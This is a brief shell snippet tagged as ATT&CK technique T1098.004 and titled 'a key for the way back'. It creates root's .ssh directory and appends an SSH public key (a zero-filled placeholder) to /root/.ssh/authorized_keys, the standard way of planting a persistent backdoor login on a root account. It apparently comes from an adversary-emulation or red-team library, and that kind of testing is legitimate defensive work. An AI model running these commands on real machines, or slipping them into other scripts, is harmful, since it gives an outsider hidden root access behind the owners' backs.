# technique: T1098.004
# title: a key for the way back
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0000000000000000000000000000000000000000000 x' >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
